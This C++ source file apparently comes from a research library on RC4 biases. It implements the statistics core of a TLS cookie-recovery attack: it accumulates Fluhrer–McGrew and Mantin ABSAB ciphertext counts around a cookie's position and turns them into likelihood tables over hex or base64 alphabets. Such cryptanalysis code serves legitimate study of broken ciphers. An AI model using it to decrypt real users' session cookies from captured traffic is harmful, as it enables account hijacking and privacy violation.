#include "src/tls/cookie_attack.h"

#include <cassert>
#include <cstdio>

#include "src/biases/fluhrer_mcgrew.h"
#include "src/biases/mantin.h"
#include "src/core/likelihood.h"

namespace rc4b {

namespace {

// True iff both bytes of the pair starting at `pos` lie in known plaintext
// (outside the cookie value).
bool PairKnown(size_t pos, const CookieAttackLayout& layout) {
  const auto known = [&](size_t p) {
    return p < layout.request_size &&
           (p < layout.cookie_offset || p >= layout.cookie_offset + layout.cookie_length);
  };
  return known(pos) && known(pos + 1);
}

}  // namespace

CookieCaptureStats::CookieCaptureStats(const CookieAttackLayout& layout,
                                       Bytes known_plaintext)
    : layout_(layout), known_plaintext_(std::move(known_plaintext)) {
  // Release-build validation: AddRequest indexes up to cookie_offset +
  // cookie_length, so a layout violating these bounds must disable the
  // object rather than read out of bounds later.
  valid_ = known_plaintext_.size() == layout_.request_size &&
           layout_.cookie_offset >= 1 &&
           layout_.cookie_offset + layout_.cookie_length < layout_.request_size;
  assert(valid_);
  if (!valid_) {
    std::fprintf(stderr,
                 "CookieCaptureStats: invalid layout (offset %zu, length %zu, "
                 "request %zu, plaintext %zu); all requests will be rejected\n",
                 layout_.cookie_offset, layout_.cookie_length,
                 layout_.request_size, known_plaintext_.size());
    return;
  }

  const size_t pairs = pair_count();
  fm_counts_.assign(pairs, std::vector<uint64_t>(65536, 0));
  absab_scores_.assign(pairs, std::vector<double>(65536, 0.0));
  gap_refs_.resize(pairs);

  // Precompute every usable ABSAB reference for each unknown-adjacent pair:
  // known pairs at distance g + 2 before or after it, g <= max_gap.
  for (size_t t = 0; t < pairs; ++t) {
    const size_t pos = layout_.cookie_offset - 1 + t;  // first byte of pair t
    for (size_t gap = 0; gap <= layout_.max_gap; ++gap) {
      // Known pair after: positions pos + gap + 2, pos + gap + 3.
      const size_t after = pos + gap + 2;
      if (PairKnown(after, layout_)) {
        const uint16_t known_pair = static_cast<uint16_t>(
            known_plaintext_[after] << 8 | known_plaintext_[after + 1]);
        gap_refs_[t].push_back(GapRef{after, known_pair, AbsabLogOdds(gap)});
      }
      // Known pair before: positions pos - gap - 2, pos - gap - 1.
      if (pos >= gap + 2) {
        const size_t before = pos - gap - 2;
        if (PairKnown(before, layout_)) {
          const uint16_t known_pair = static_cast<uint16_t>(
              known_plaintext_[before] << 8 | known_plaintext_[before + 1]);
          gap_refs_[t].push_back(GapRef{before, known_pair, AbsabLogOdds(gap)});
        }
      }
    }
  }
}

bool CookieCaptureStats::AddRequest(std::span<const uint8_t> ciphertext) {
  // Load-bearing validation: with a valid layout, every position indexed
  // below is < request_size, so a short ciphertext (or an invalid layout)
  // would read out of bounds in Release builds.
  if (!valid_ || ciphertext.size() < layout_.request_size) {
    return false;
  }
  ++requests_;
  for (size_t t = 0; t < pair_count(); ++t) {
    const size_t pos = layout_.cookie_offset - 1 + t;
    const uint16_t cpair =
        static_cast<uint16_t>(ciphertext[pos] << 8 | ciphertext[pos + 1]);
    fm_counts_[t][cpair] += 1;
    // ABSAB: ciphertext differential against each known reference pair; the
    // plaintext-likelihood cell for candidate pair mu is d XOR known_pair
    // (formulas 19–24 folded into one table update).
    for (const GapRef& ref : gap_refs_[t]) {
      const uint16_t ref_pair = static_cast<uint16_t>(
          ciphertext[ref.known_position] << 8 | ciphertext[ref.known_position + 1]);
      const uint16_t diff = static_cast<uint16_t>(cpair ^ ref_pair);
      absab_scores_[t][diff ^ ref.known_pair] += ref.log_odds;
    }
  }
  return true;
}

DoubleByteTables CookieTransitionTables(const CookieCaptureStats& stats,
                                        size_t keystream_alignment) {
  DoubleByteTables tables(stats.pair_count());
  for (size_t t = 0; t < stats.pair_count(); ++t) {
    // Keystream position of the pair's first byte: one before the cookie for
    // t = 0. 1-based position for the PRGA counter mapping.
    const size_t stream_pos_1based = keystream_alignment + t;  // (offset-1)+t+1
    const auto model =
        FmSparseModel(PrgaCounterAtPosition(stream_pos_1based), 1 << 20);
    tables[t] = DoubleByteLogLikelihoodSparse(stats.FmCounts(t), stats.requests(),
                                              model);
    CombineInPlace(tables[t], stats.AbsabScores(t));
  }
  return tables;
}

std::vector<uint8_t> CookieAlphabetHex() {
  std::vector<uint8_t> alphabet;
  for (char c = '0'; c <= '9'; ++c) {
    alphabet.push_back(static_cast<uint8_t>(c));
  }
  for (char c = 'a'; c <= 'f'; ++c) {
    alphabet.push_back(static_cast<uint8_t>(c));
  }
  return alphabet;
}

std::vector<uint8_t> CookieAlphabet64() {
  std::vector<uint8_t> alphabet;
  for (char c = 'A'; c <= 'Z'; ++c) {
    alphabet.push_back(static_cast<uint8_t>(c));
  }
  for (char c = 'a'; c <= 'z'; ++c) {
    alphabet.push_back(static_cast<uint8_t>(c));
  }
  for (char c = '0'; c <= '9'; ++c) {
    alphabet.push_back(static_cast<uint8_t>(c));
  }
  alphabet.push_back('-');
  alphabet.push_back('_');
  return alphabet;
}

}  // namespace rc4b
